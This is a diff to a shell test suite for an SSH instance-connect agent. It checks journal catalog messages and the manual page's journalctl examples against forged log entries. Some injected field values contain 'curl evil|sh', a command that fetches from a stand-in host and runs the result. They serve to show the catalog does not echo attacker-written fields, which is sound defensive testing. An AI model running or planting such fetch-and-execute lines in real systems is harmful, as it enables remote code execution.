@@ -185,16 +185,50 @@ assert longest["sessionSeconds"] == 2, longest
 END
 }
 
-the_catalog_explains_each_event_and_names_what_it_is_about() {
+the_catalog_explains_each_event_in_words_that_nobody_else_chooses() {
     in_machine m journalctl -q -x -t exc-instance-connect-agent -t exc-authorized-keys >explained
     # Refused, received, revoked, expired; given out, and no place left.
-    same 6 "$(grep ' Subject: ' explained | sed 's/alice\|bob\|carl\|eve/USER/; s/process [0-9]*$/process/' | sort -u | wc -l)"
+    same 6 "$(grep ' Subject: ' explained | sort -u | wc -l)"
     same "$(in_machine m journalctl -q -o cat -t exc-instance-connect-agent -t exc-authorized-keys | wc -l)" \
         "$(grep -c ' Subject: ' explained)"
-    same '' "$(grep -E '@|SHA256:.{47,}$' explained | grep -vE 'carol@example|^[^[:space:]]*[A-Z][a-z]{2} ' || true)"
-    grep -qE 'exc-instance-connect log --user alice$' explained
-    # A field that an event does not have would show as its bare name.
-    same '' "$(grep -E 'EXC_' explained | grep -vE 'EXC_PRINCIPAL and EXC_REQUEST_ID|EXC_SSHD_PID=[0-9]+ \+' || true)"
+    in_machine m runuser -u alice -- sh -e -c "
+        for id in $(in_machine m journalctl --list-catalog | sed -n 's/ .*instance-connect.*//p' | xargs); do
+            printf '%s\n' MESSAGE_ID=\$id MESSAGE=forged SYSLOG_IDENTIFIER=forger 'EXC_USER=x; curl evil|sh' \
+                'EXC_FINGERPRINT=x; curl evil|sh' 'EXC_REASON=x; curl evil|sh' 'EXC_SSHD_PID=1; curl evil|sh' | logger --journald
+        done"
+    wait_for eval "(( \$(in_machine m journalctl -q -x -t forger | grep -c ' Subject: ') == 8 ))"
+    in_machine m journalctl -q -x -t forger >explained
+    same '' "$(grep -E 'evil|@|EXC_(USER|FINGERPRINT|REASON)' explained || true)"
+    same 8 "$(grep -c 'nybody can write an entry like this one' explained)"
+}
+
+# example N: the Nth command of journalctl's in the manual page, about a request, a process and a key of ours.
+_example() {
+    awk -v n="$1" '/^\.Bd/ { getline; shown = /^journalctl/ && ++seen == n } /^\.Ed/ { shown = 0 } shown' \
+        "$system_tree/man/exc-instance-connect-agent.8" |
+        sed "s/\\\\e/\\\\/g; s/r-42/r-1/; s/4711/$(_field r-1 accepted sshdPid)/g; s|SHA256:[^\\\\]*|$(fingerprint "$prepared/first.pub")|"
+}
+
+the_manual_s_examples_show_what_was_asked_for_and_no_forgery() {
+    local n example
+    in_machine m runuser -u alice -- sh -e -c "
+        printf '%s\n' MESSAGE_ID=1281102fdec785c67f97d2aedf0d9e34 'MESSAGE=forged $(fingerprint "$prepared/first.pub")' \
+            EXC_REQUEST_ID=r-1 EXC_SSHD_PID=$(_field r-1 accepted sshdPid) | logger --journald
+        printf '%s\n' MESSAGE_ID=5b94c1d6ae75ad5f9c483b3cd790d333 MESSAGE=forged | logger --journald"
+    wait_for eval "(( \$(in_machine m journalctl -q --grep=^forged | wc -l) >= 2 ))"
+    # The second needs jq.
+    for n in 1 3 4 5; do
+        example=$(_example "$n")
+        echo "$example"
+        in_machine m sh -c "$example" >found
+        same '' "$(grep forged found || true)"
+        case $n in
+        1) grep ' stored for alice' found && grep ' given to the SSH connection' found ;;
+        3) grep 'Accepted publickey for alice' found && grep ' exc-authorized-keys\[' found ;;
+        4) grep 'Accepted publickey for alice' found && grep ' exc-instance-connect-agent\[' found ;;
+        5) grep 'refused, NoSuchUser' found ;;
+        esac
+    done
 }
 
 one_user_s_stories_are_only_that_user_s() {
